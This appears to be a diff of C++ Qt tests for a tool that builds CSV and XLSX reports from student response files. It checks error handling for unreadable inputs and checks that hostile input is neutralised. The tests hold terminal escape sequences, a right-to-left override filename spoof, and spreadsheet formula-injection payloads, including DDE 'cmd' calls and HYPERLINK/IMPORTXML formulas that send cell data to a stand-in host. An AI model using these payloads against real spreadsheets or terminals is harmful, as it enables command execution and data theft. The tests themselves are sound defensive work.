@@ -1,13 +1,30 @@
 // SPDX-License-Identifier: MIT
+#include "bank/assignmentcontent.h"
+#include "records/codepage.h"
+#include "records/recordcomposition.h"
 #include "report/reportcommand.h"
+#include "report/workbookwriter.h"
 #include "walkedrun.h"
 
 #include <QDateTime>
 #include <QDir>
 #include <QFileInfo>
+#include <QJsonArray>
+#include <QJsonDocument>
 #include <QProcess>
+#include <QStandardPaths>
 #include <QTemporaryDir>
 #include <QTest>
+
+#include <cstring>
+
+#ifndef Q_OS_WIN
+#include <fcntl.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
+#include <sys/un.h>
+#include <unistd.h>
+#endif
 
 namespace {
 
@@ -18,10 +35,27 @@ struct Outcome
     QString err;
 };
 
-Outcome runReport(const QStringList &arguments)
+// `asUser`: as an ordinary user, so that file permissions hold even when the suite runs as
+// root (as CI does).
+Outcome runReport(const QStringList &arguments, bool asUser = false,
+                  const QProcessEnvironment &environment = QProcessEnvironment::systemEnvironment())
 {
     QProcess process;
-    process.start(QStringLiteral(BEXLORIN_REPORT), arguments);
+    process.setProcessEnvironment(environment);
+#ifdef Q_OS_WIN
+    const bool root = false;
+#else
+    const bool root = geteuid() == 0;
+#endif
+    if (asUser && root) {
+        process.start(QStringLiteral("setpriv"), QStringList{QStringLiteral("--reuid=nobody"),
+                                                             QStringLiteral("--regid=nogroup"),
+                                                             QStringLiteral("--clear-groups"),
+                                                             QStringLiteral(BEXLORIN_REPORT)} +
+                                                     arguments);
+    } else {
+        process.start(QStringLiteral(BEXLORIN_REPORT), arguments);
+    }
     Outcome outcome;
     if (!process.waitForFinished(120000) || process.exitStatus() != QProcess::NormalExit)
         return outcome;
@@ -227,6 +261,9 @@ private slots:
         QTest::addColumn<QString>("says");
         QTest::newRow("help") << QStringList{QStringLiteral("--help")} << 0
                               << QStringLiteral("--csv <file>");
+        QTest::newRow("help sends spreadsheets to the workbook")
+            << QStringList{QStringLiteral("--help")} << 0
+            << QStringLiteral("For a spreadsheet program open the .xlsx (--xlsx), not the CSV");
         QTest::newRow("version") << QStringList{QStringLiteral("--version")} << 0
                                  << QStringLiteral("bexlorin-report 1.");
         QTest::newRow("no input") << QStringList{} << 2 << QStringLiteral("name at least one");
@@ -236,15 +273,285 @@ private slots:
                                       << 2 << QStringLiteral("no such file");
         QTest::newRow("CSV option without its file")
             << QStringList{QStringLiteral("--csv")} << 2 << QStringLiteral("Missing value");
+        QTest::newRow("the same output twice")
+            << QStringList{QStringLiteral("--csv"), output(QStringLiteral("twice")),
+                           QStringLiteral("--html"), outputs_.path() + QStringLiteral("/./twice"),
+                           records_.path()}
+            << 2 << QStringLiteral("is named as two outputs");
+        QTest::newRow("an output read as a record file next time")
+            << QStringList{QStringLiteral("--csv"),
+                           records_.filePath(QStringLiteral("send_all.csv")), records_.path()}
+            << 2 << QStringLiteral("would be read as a record file");
+#ifndef Q_OS_WIN // Windows always has one
+        QTest::newRow("folder dialog without a display")
+            << QStringList{QStringLiteral("--choose-folder")} << 2
+            << QStringLiteral("no display was found");
+#endif
     }
     void exitStatus()
     {
         QFETCH(QStringList, arguments);
         QFETCH(int, status);
         QFETCH(QString, says);
-        const Outcome outcome = runReport(arguments);
+        QProcessEnvironment noDisplay = QProcessEnvironment::systemEnvironment();
+        for (const char *name : {"DISPLAY", "WAYLAND_DISPLAY", "QT_QPA_PLATFORM"})
+            noDisplay.remove(QString::fromLatin1(name));
+        const Outcome outcome = runReport(arguments, false, noDisplay);
+        QVERIFY(!QFileInfo::exists(output(QStringLiteral("twice"))));
         QCOMPARE(outcome.status, status);
         QVERIFY2((outcome.out + outcome.err).contains(says), qPrintable(outcome.out + outcome.err));
+    }
+
+    // Every input that cannot be read is listed with the system's reason and makes the exit
+    // status 2; the other files are still read, and nothing of the inputs changes.
+    void unreadInputs_data()
+    {
+        QTest::addColumn<QString>("says");
+        QTest::newRow("unreadable file") << QStringLiteral("send_0303Ann.txt: problem: cannot "
+                                                           "be opened: Permission denied");
+        QTest::newRow("name not in the system's encoding")
+            << QStringLiteral("send_0303Zo\\xeb.txt: problem: the name is not valid");
+        QTest::newRow("dangling link")
+            << QStringLiteral("send_0303Ann.txt: problem: a dangling link");
+        QTest::newRow("link loop") << QStringLiteral("send_0303Ann.txt: problem: a link loop");
+        QTest::newRow("empty file")
+            << QStringLiteral("send_0303Ann.txt: problem: the file is empty");
+        QTest::newRow("FIFO") << QStringLiteral("send_0303Ann.txt: problem: is a FIFO");
+        QTest::newRow("socket") << QStringLiteral("send_0303Ann.txt: problem: is a socket");
+        QTest::newRow("/dev/zero") << QStringLiteral("/dev/zero: problem: is a device");
+        QTest::newRow("unreadable folder")
+            << QStringLiteral("locked: problem: the folder cannot be listed: Permission denied");
+        QTest::newRow("link loop named")
+            << QStringLiteral("send_0303Ann.txt: problem: a link loop");
+    }
+    void unreadInputs()
+    {
+#ifdef Q_OS_WIN
+        QSKIP("FIFOs, sockets, devices and names outside the system's encoding are POSIX's");
+#else
+        QFETCH(QString, says);
+        QTemporaryDir dir;
+        QVERIFY(dir.isValid());
+        QVERIFY(QFile::setPermissions(dir.path(), QFile::ReadOwner | QFile::WriteOwner |
+                                                      QFile::ExeOwner | QFile::ReadOther |
+                                                      QFile::ExeOther));
+        const QString good = dir.filePath(QFileInfo(walks_.first().send).fileName());
+        QVERIFY(QFile::copy(walks_.first().send, good));
+        const QByteArray ann = QFile::encodeName(dir.filePath(QStringLiteral("send_0303Ann.txt")));
+        const QString row = QString::fromLatin1(QTest::currentDataTag());
+        QStringList inputs{dir.path()};
+        if (row == u"unreadable file") {
+            QVERIFY(QFile::copy(good, QFile::decodeName(ann)));
+            QVERIFY(::chmod(ann, 0600) == 0);
+        } else if (row.startsWith(u"name not")) {
+            QFile raw;
+            QVERIFY(raw.open(::open(QFile::encodeName(dir.path()) + "/send_0303Zo\xeb.txt",
+                                    O_WRONLY | O_CREAT, 0644),
+                             QIODevice::WriteOnly, QFileDevice::AutoCloseHandle));
+            raw.write("x\r\n");
+        } else if (row == u"dangling link") {
+            QVERIFY(::symlink("send_0303Nobody.txt", ann) == 0);
+        } else if (row.startsWith(u"link loop")) {
+            QVERIFY(::symlink("send_0303Ann.txt", ann) == 0);
+            if (row.endsWith(u"named"))
+                inputs = QStringList{good, QFile::decodeName(ann)};
+        } else if (row == u"empty file") {
+            QVERIFY(QFile(QFile::decodeName(ann)).open(QIODevice::WriteOnly));
+        } else if (row == u"FIFO") {
+            QVERIFY(::mkfifo(ann, 0644) == 0);
+        } else if (row == u"socket") {
+            // The socket's file stays when the socket is closed.
+            sockaddr_un address{};
+            address.sun_family = AF_UNIX;
+            QVERIFY(size_t(ann.size()) < sizeof address.sun_path);
+            std::memcpy(address.sun_path, ann.constData(), size_t(ann.size()));
+            const int socket = ::socket(AF_UNIX, SOCK_STREAM, 0);
+            QVERIFY(::bind(socket, reinterpret_cast<sockaddr *>(&address), sizeof address) == 0);
+            ::close(socket);
+        } else if (row == u"/dev/zero") {
+            inputs = QStringList{good, QStringLiteral("/dev/zero")};
+        } else if (row == u"unreadable folder") {
+            QVERIFY(QDir(dir.path()).mkdir(QStringLiteral("locked")));
+            QVERIFY(::chmod(QFile::encodeName(dir.filePath(QStringLiteral("locked"))), 0700) == 0);
+            inputs.append(dir.filePath(QStringLiteral("locked")));
+        }
+        const QMap<QString, FileState> before = stateOf(dir.path());
+        const Outcome outcome = runReport(inputs, true);
+        QCOMPARE(outcome.status, 2);
+        QVERIFY2(outcome.err.contains(says), qPrintable(outcome.err));
+        const int problems = int(outcome.err.count(QStringLiteral(": problem: ")));
+        QVERIFY2(problems == 1, qPrintable(outcome.err));
+        QVERIFY2(outcome.out.contains(QStringLiteral("Sam Student  send")),
+                 qPrintable(outcome.out));
+        QCOMPARE(stateOf(dir.path()), before);
+        if (row.startsWith(u"name not")) // QTemporaryDir cannot name it to remove it
+            QVERIFY(::unlink(QFile::encodeName(dir.path()) + "/send_0303Zo\xeb.txt") == 0);
+#endif
+    }
+
+    // Control characters and bidirectional overrides typed by a student (in a response, a
+    // rating, a line added by hand and the file's name) reach the terminal escaped, and the CSV
+    // exactly.
+    void nothingRawToTheTerminal()
+    {
+#ifdef Q_OS_WIN
+        QSKIP("Windows file names cannot hold control characters");
+#else
+        const QString payload = QStringLiteral("\x1b]0;owned\x07\x1b[2J\x1b]52;c;ZWNobyBoaQ==\x07"
+                                               "\u202Etxt.exe");
+        QTemporaryDir dir;
+        QVERIFY(dir.isValid());
+        const QString path =
+            dir.filePath(QStringLiteral("send_0303Sam") + payload + QStringLiteral(".txt"));
+        const QString entry = bank::assignmentContent().filter(QStringLiteral("`q001.")).first();
+        QString text = records::openingBlock(
+            QString(22, QChar(0xFF)), records::assignmentLine(QStringLiteral("001")),
+            QStringLiteral("001.  Areas"), QStringLiteral("bexlorin"),
+            QStringLiteral("03-03-2026"));
+        text += records::responseRecord(records::RecordFile::Send, QStringLiteral("09:05:30"), 0,
+                                        {entry, payload}, records::Rating::Confidence, payload);
+        text += payload + QStringLiteral("\r\n"); // a line added by hand
+        QFile file(path);
+        QVERIFY(file.open(QIODevice::WriteOnly));
+        file.write(text.toUtf8()); // as an editor re-saves it: U+202E is no Windows-1252
+        file.close();
+        const QString csvPath = output(QStringLiteral("terminal.csv"));
+        QProcess table;
+        table.start(QStringLiteral(BEXLORIN_REPORT), {path});
+        QVERIFY(table.waitForFinished(120000));
+        const QByteArray terminal = table.readAllStandardOutput() + table.readAllStandardError();
+        QVERIFY2(terminal.contains("Sam\\x1b]0;owned\\x07"), terminal);
+        QVERIFY2(terminal.contains("fits no record"), terminal);
+        QVERIFY2(terminal.contains("\\u202etxt.exe"), terminal);
+        for (const char *raw : {"\x1b", "\x07", "\xE2\x80\xAE"})
+            QVERIFY2(!terminal.contains(raw), terminal);
+        QCOMPARE(runReport({QStringLiteral("--csv"), csvPath, path}).status, 1);
+        QFile csvFile(csvPath);
+        QVERIFY(csvFile.open(QIODevice::ReadOnly));
+        QString error;
+        const QList<QStringList> rows = readCsv(csvFile.readAll(), &error);
+        QVERIFY2(error.isEmpty(), qPrintable(error));
+        QCOMPARE(rows.size(), 2);
+        QCOMPARE(rows[1].at(0), QStringLiteral("Sam") + payload);
+        QCOMPARE(rows[1].at(8), payload);
+        QCOMPARE(rows[1].at(10), payload);
+#endif
+    }
+
+    // The workbook, read back by an independent reader (openpyxl from Debian), holds every field
+    // of the CSV exactly, as text where a student typed it: formula injections, 001 and Zoë
+    // included, and none of its cells is a formula.
+    void workbookMatchesTheCsv()
+    {
+#ifdef Q_OS_WIN
+        // libxlsxwriter's own Windows build writes the workbook, by a name beyond ASCII.
+        const QString made = output(QStringLiteral("Zoë.xlsx"));
+        QCOMPARE(runReport({QStringLiteral("--xlsx"), made, records_.path()}).status, 0);
+        QFile written(made);
+        QVERIFY(written.open(QIODevice::ReadOnly));
+        QCOMPARE(written.read(4), QByteArray("PK\x03\x04"));
+        QSKIP("openpyxl reads the workbook back on the Linux side, in the Linux build's test");
+#endif
+        const QString python = QFileInfo::exists(QStringLiteral("/usr/bin/python3"))
+                                   ? QStringLiteral("/usr/bin/python3")
+                                   : QStandardPaths::findExecutable(QStringLiteral("python3"));
+        if (!report::WorkbookWriter::available() || python.isEmpty())
+            QSKIP("no libxlsxwriter in this build, or no python3 to read the workbook back");
+        const QStringList payloads{
+            QStringLiteral("=1+1"),
+            QStringLiteral("+1+1"),
+            QStringLiteral("-1+1"),
+            QStringLiteral("@SUM(1+1)"),
+            QStringLiteral("\t=1+1"),
+            QStringLiteral("=HYPERLINK(\"http://example.invalid/?\"&A1;\"click\")"),
+            QStringLiteral("=cmd|' /c calc'!a0"),
+            QStringLiteral("=2+5+cmd|' /C calc'!A0"),
+            QStringLiteral("-2+3+cmd|' /C calc'!A0"),
+            QStringLiteral("@SUM(1+9)*cmd|' /C calc'!A0"),
+            QStringLiteral("=DDE(\"cmd\";\"/C calc\";\"!A0\")"),
+            QStringLiteral("=IMPORTXML(CONCAT(\"http://example.invalid/?v=\",A1),\"//a\")"),
+            QStringLiteral("001"),
+            QStringLiteral("Zoë"),
+            QStringLiteral("1.5e3")};
+        QTemporaryDir dir;
+        QVERIFY(dir.isValid());
+        const QString entry = bank::assignmentContent().filter(QStringLiteral("`q001.")).first();
+        for (const QString &name : {QStringLiteral("=1+1"), QStringLiteral("@SUM(1+1)"),
+                                    QStringLiteral("001"), QStringLiteral("Zoë")}) {
+            QString text = records::openingBlock(
+                QString(22, QChar(0xFF)), records::assignmentLine(QStringLiteral("001")),
+                QStringLiteral("001.  Areas"), QStringLiteral("bexlorin"),
+                QStringLiteral("03-03-2026"));
+            for (const QString &payload : payloads) {
+                text += records::responseRecord(records::RecordFile::Send,
+                                                QStringLiteral("09:05:30"), 0, {entry, payload},
+                                                records::Rating::Confidence, payload);
+            }
+            QFile file(dir.filePath(QStringLiteral("send_0303") + name + QStringLiteral(".txt")));
+            QVERIFY(file.open(QIODevice::WriteOnly));
+            file.write(records::codepage::encode(text).value());
+        }
+        const QString csvPath = output(QStringLiteral("cells.csv"));
+        const QString xlsxPath = output(QStringLiteral("cells.xlsx"));
+        const Outcome outcome =
+            runReport({QStringLiteral("--csv"), csvPath, QStringLiteral("--xlsx"), xlsxPath,
+                       dir.path(), records_.path()});
+        QVERIFY2(outcome.status == 1 || outcome.status == 0, qPrintable(outcome.err));
+        QFile csvFile(csvPath);
+        QVERIFY(csvFile.open(QIODevice::ReadOnly));
+        QString error;
+        const QList<QStringList> csv = readCsv(csvFile.readAll(), &error);
+        QVERIFY2(error.isEmpty(), qPrintable(error));
+
+        QProcess reader;
+        reader.start(python, {QFINDTESTDATA("workbookcells.py"), xlsxPath});
+        QVERIFY(reader.waitForFinished(120000));
+        QVERIFY2(reader.exitCode() == 0, reader.readAllStandardError());
+        const QJsonArray workbook = QJsonDocument::fromJson(reader.readAllStandardOutput()).array();
+        QCOMPARE(workbook.size(), csv.size());
+        const QList<int> numbers{4, 5, 9}; // code number, question, rating
+        QSet<QString> seen;
+        for (qsizetype r = 0; r < csv.size(); ++r) {
+            const QJsonArray row = workbook[r].toArray();
+            QCOMPARE(row.size(), csv[r].size());
+            for (qsizetype c = 0; c < row.size(); ++c) {
+                const QString type = row[c].toArray()[0].toString();
+                const QString text = row[c].toArray()[1].toString();
+                QCOMPARE(text, csv[r][c]);
+                const bool number = r > 0 && numbers.contains(int(c));
+                QCOMPARE(type,
+                         text.isEmpty() || number ? QStringLiteral("n") : QStringLiteral("s"));
+                seen.insert(text);
+            }
+        }
+        for (const QString &payload : payloads)
+            QVERIFY2(seen.contains(payload), qPrintable(payload));
+    }
+
+    // Two students' files whose code lines are equal but invalid (here: the typed text of a
+    // response read as a code line by hand-editing) are two runs, never "the same run twice".
+    void invalidCodeLinesAreNoKey()
+    {
+        QTemporaryDir dir;
+        QVERIFY(dir.isValid());
+        const QString entry = bank::assignmentContent().filter(QStringLiteral("`q001.")).first();
+        for (const QString &name : {QStringLiteral("Kim_Doe"), QStringLiteral("Sam_Student")}) {
+            const QString text =
+                records::openingBlock(QStringLiteral("RESPONSE -->  "),
+                                      records::assignmentLine(QStringLiteral("001")),
+                                      QStringLiteral("001.  Areas"), QStringLiteral("bexlorin"),
+                                      QStringLiteral("03-03-2026")) +
+                records::responseRecord(records::RecordFile::Send, QStringLiteral("09:05:30"), 0,
+                                        {entry, QStringLiteral("12")}, records::Rating::Confidence,
+                                        QStringLiteral("2"));
+            QFile file(dir.filePath(QStringLiteral("send_0303") + name + QStringLiteral(".txt")));
+            QVERIFY(file.open(QIODevice::WriteOnly));
+            file.write(records::codepage::encode(text).value());
+        }
+        const Outcome outcome = runReport({dir.path()});
+        QCOMPARE(outcome.status, 1);
+        QCOMPARE(outcome.err.count(QStringLiteral("code line of this run is not valid")), 2);
+        QVERIFY2(!outcome.err.contains(QStringLiteral("the same run")), qPrintable(outcome.err));
     }
 
     // A file with problems: exit status 1, and the outputs are still written.
